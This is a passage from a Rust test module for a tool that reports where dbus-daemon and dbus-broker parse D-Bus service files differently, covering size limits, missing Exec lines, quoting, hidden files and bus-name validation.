    /// difference.
    #[test]
    fn refusals_on_one_side_only_are_differences() {
        let bytes = b"[D-BUS Service]\nName=org.big\nExec=/opt/big\n";
        let big = DBUS_DAEMON_MAX_BYTES + 1;
        assert_eq!(
            differences(&parse(bytes), &parse_broker(bytes), big, b"x.service"),
            [
                r#"dbus-daemon refuses the file (it is larger than 128 KiB); dbus-broker loads Name="org.big" and runs ["/opt/big"]"#
            ]
        );
        assert!(differences(&parse(bytes), &parse_broker(bytes), 100, b"x.service").is_empty());
        // No Exec: dbus-daemon refuses, dbus-broker hands over to systemd.
        let bytes = b"[D-BUS Service]\nName=org.u\nSystemdService=u.service\n";
        assert_eq!(
            differences(&parse(bytes), &parse_broker(bytes), 0, b"x.service"),
            [
                r#"dbus-daemon refuses the file (no Exec=); dbus-broker loads Name="org.u" and hands it to SystemdService="u.service""#
            ]
        );
        // An unterminated quote only c-shquote sees: dbus-daemon unescapes
        // `\\` first and then reads `\'` as a literal quote.
        let bytes = b"[D-BUS Service]\nName=org.q\nExec=/bin/x \\\\'\n";
        assert_eq!(
            differences(&parse(bytes), &parse_broker(bytes), 0, b"x.service"),
            [
                r#"dbus-broker refuses the file (Exec has an unterminated ' quote); dbus-daemon loads Name="org.q" and runs ["/bin/x", "'"]"#
            ]
        );
        assert!(differences(&parse(b"junk"), &parse_broker(b"junk"), 0, b"x.service").is_empty());
    }

    /// dbus-broker skips hidden files and refuses invalid bus names;
    /// dbus-daemon loads both, and refuses a NUL byte anywhere.
    #[test]
    fn what_only_one_daemon_loads() {
        let bytes = b"[D-BUS Service]\nName=org.h\nExec=/opt/h\n";
        assert_eq!(
            differences(&parse(bytes), &parse_broker(bytes), 0, b".org.h.service"),
            [
                r#"dbus-broker refuses the file (a hidden file, which it skips); dbus-daemon loads Name="org.h" and runs ["/opt/h"]"#
            ]
        );
        for bad in ["org..x", "x", "org.1x", ".org.x", "org.x y"] {
            let bytes = format!("[D-BUS Service]\nName={bad}\nExec=/opt/h\n");
            let d = differences(
                &parse(bytes.as_bytes()),
                &parse_broker(bytes.as_bytes()),
                0,
                b"x.service",
            );
            assert!(
                d[0].starts_with("dbus-broker refuses the file (invalid bus name"),
                "{bad}: {d:?}"
            );
        }
        for good in ["org.x", "a.b-c._d", ":1.42", "org.x2"] {
            assert!(valid_bus_name(good), "{good}");
        }
        let f = parse(b"[D-BUS Service]\n# a\0b\nName=org.n\n").unwrap();
        assert_eq!(f.problems, ["line 2: NUL byte"]);
    }

    /// Found by fuzzing: a file neither daemon loads (no `Name=`) has no
    /// program of dbus-broker's to check, though the two split its `Exec=`
    /// differently.
    #[test]
    fn no_broker_program_for_a_file_dbus_broker_refuses() {
        let bytes = b"\n[D-BUS Service]\n\nExec=\x01\\\\";
        let (p, b) = (parse(bytes), parse_broker(bytes));
        assert!(differences(&p, &b, bytes.len() as u64, b"x.service").is_empty());
        assert_eq!(broker_program(&p, &b, b"x.service"), None);
    }

    #[test]
    fn broker_group_headers_and_keys() {
        let b = parse_broker(b"Name=org.before\n  [D-BUS Service]  \r\nName = org.b \nExec\t=\t/x\n[D-BUS Service] junk\nUser=u\n[Other]\nUser=v\n").unwrap();
        // `[D-BUS Service] junk` is no header: its line has no `=`, so the
        // group stays open; `[Other]` closes it.
        assert_eq!(b.name.as_deref(), Some("org.b "));
        assert_eq!(b.exec.as_deref(), Some("/x"));
        assert_eq!(b.user.as_deref(), Some("u"));
        assert_eq!(parse_broker(b"[Other]\nName=x\n"), None);
    }

    #[test]
    fn split_like_dbus_broker() {
        let s = |x: &str| split_exec_broker(x).unwrap();
        assert_eq!(s("/usr/bin/foo  --a\tb "), ["/usr/bin/foo", "--a", "b"]);
        assert_eq!(s("# all comment\n/bin/x y#z"), ["/bin/x", "y#z"]);
        assert_eq!(s(r#"a"b c"'d e'f \q"#), ["ab cd ef", "q"]);
        assert_eq!(s(r#"x "" ''"#), ["x", "", ""]);
        assert_eq!(s("a \\\nb \\"), ["a", "b"]);
        assert_eq!(s(r#"x "\a\$""#), ["x", r"\a$"]);
        assert_eq!(split_exec_broker("  "), Err(ExecError::Empty));
        assert_eq!(
            split_exec_broker("a 'b"),
            Err(ExecError::UnterminatedQuote('\''))
        );
        assert_eq!(
            split_exec_broker("a \"b\\"),
            Err(ExecError::UnterminatedQuote('"'))
        );
        assert_eq!(split_exec_broker("a\0b"), Err(ExecError::Nul));
    }
}
